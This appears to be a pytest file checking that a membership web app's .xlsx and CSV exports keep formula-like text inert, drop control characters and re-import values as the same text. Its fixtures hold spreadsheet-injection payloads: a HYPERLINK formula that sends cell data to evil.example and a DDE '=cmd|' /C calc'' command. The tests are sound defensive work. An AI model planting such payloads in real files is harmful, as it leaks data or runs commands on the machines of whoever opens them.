"""Spreadsheet exports are safe to open: text that looks like a formula stays text (.xlsx: a
string cell; CSV: escaped as OWASP advises), control characters do not break the export, and the
member import reads such values back as the same text."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import delete, select

from tests.conftest import client_for
from tests.factories import PASSWORD
from tests.members.factories import make_member
from webapp.extensions import db
from webapp.models.members import Member, MemberEvent
from webapp.spreadsheets import XlsxWriter, csv_value, read_text, write_csv

EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
NOTES = ["+1 bạn", "-5", "@SUM(A1)", "\tTab", "=1+1"]


@pytest.fixture()
def evil(world):
    """A member whose name is a formula and whose note holds a NUL and other controls."""
    return make_member(world.branch_a1, EVIL, note="ghi\x01chú\x07 =cmd|' /C calc'!A0")


def _formulas(xlsx: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return sum(
            len(re.findall(rb"<f[ >]", archive.read(n)))
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )


def _values(xlsx: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(xlsx))
    return [c for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row]


def test_member_export_writes_formulas_as_text_and_survives_control_characters(app, world, evil):
    staff = client_for(app, world.staff_a, PASSWORD)
    response = staff.get("/members/export.xlsx")
    assert response.status_code == 200
    assert _formulas(response.data) == 0
    values = _values(response.data)
    assert EVIL in values
    # The control characters are dropped (a NUL cannot even reach PostgreSQL).
    assert "ghichú =cmd|' /C calc'!A0" in values


def test_audit_export_writes_formulas_as_text(app, world, evil):
    admin = client_for(app, world.admin, PASSWORD)
    response = admin.get("/admin/audit/export.xlsx")
    assert response.status_code == 200
    assert _formulas(response.data) == 0
    assert EVIL in _values(response.data)


def test_csv_export_escapes_what_a_spreadsheet_would_run(app, world, evil):
    for n, note in enumerate(NOTES):
        make_member(world.branch_a1, f"Lê Thị {n}", note=note, birth_year=1970 + n)
    text = client_for(app, world.staff_a, PASSWORD).get("/members/export.csv").get_data(True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    names = [r[1] for r in rows[1:]]
    notes = [r[16] for r in rows[1:]]
    assert "'" + EVIL in names
    for note in NOTES:
        assert "'" + note in notes, note
    # Numbers are numbers: the year of birth is not escaped.
    assert {r[2] for r in rows[1:]} >= {"1970", "1971"}


def test_the_escape_touches_text_only():
    assert csv_value(-5) == -5 and csv_value(1.5) == 1.5
    assert csv_value("-5") == "'-5" and csv_value("Nguyễn") == "Nguyễn"
    assert csv_value("a\x00b") == "ab"
    assert read_text("'-5") == "-5" and read_text("'=1") == "=1"
    assert read_text("'quote") == "'quote"  # an apostrophe a person typed is kept
    text = write_csv(["a", "b"], [[-5, "=1"]])
    assert text.splitlines()[1] == "-5,'=1"


def test_xlsx_writer_keeps_numbers_and_dates():
    from datetime import date

    book = XlsxWriter()
    book.add_sheet("S")
    book.append([-5, "-5", date(2023, 10, 20), "=A1"])
    values = _values(book.to_bytes())
    assert values[0] == -5 and values[1] == "-5" and values[3] == "=A1"
    assert values[2].date() == date(2023, 10, 20)


def _reimport(staff, xlsx: bytes) -> str:
    preview = staff.post_form("/members/import", {"file": (io.BytesIO(xlsx), "lai.xlsx")})
    body = preview.get_data(as_text=True)
    assert preview.status_code == 200, body
    token = re.search(r'name="token" value="([^"]+)"', body).group(1)
    assert staff.post_form("/members/import/confirm", {"token": token}).status_code == 302
    return body


def _forget_members() -> None:
    db.session.execute(delete(MemberEvent))
    db.session.execute(delete(Member))
    db.session.commit()


def test_an_exported_xlsx_imports_back_as_the_same_text(app, world):
    make_member(world.branch_a1, EVIL, note="-5")
    staff = client_for(app, world.staff_a, PASSWORD)
    exported = staff.get("/members/export.xlsx").data
    _forget_members()
    _reimport(staff, exported)
    member = db.session.scalars(select(Member)).one()
    assert member.full_name == EVIL and member.note == "-5"


def test_an_exported_csv_saved_as_xlsx_imports_back_as_the_same_text(app, world):
    make_member(world.branch_a1, EVIL, note="@chú ý", birth_year=1985)
    staff = client_for(app, world.staff_a, PASSWORD)
    text = staff.get("/members/export.csv").get_data(as_text=True)
    _forget_members()
    # What a user does: open the CSV in a spreadsheet program and save it as .xlsx (cells as
    # text, numbers as numbers).
    book = Workbook()
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        book.active.append([int(v) if v.isdigit() else v for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    _reimport(staff, buffer.getvalue())
    member = db.session.scalars(select(Member)).one()
    assert member.full_name == EVIL and member.note == "@chú ý" and member.birth_year == 1985
